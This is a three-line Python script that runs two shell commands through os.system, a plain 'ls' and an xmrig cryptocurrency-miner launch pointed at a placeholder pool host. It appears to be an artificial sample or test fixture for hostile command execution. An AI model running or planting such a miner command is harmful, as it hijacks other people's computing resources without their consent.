import os

for command in ["ls", "xmrig -o stratum+tcp://pool.invalid:3333"]:
    os.system(command)
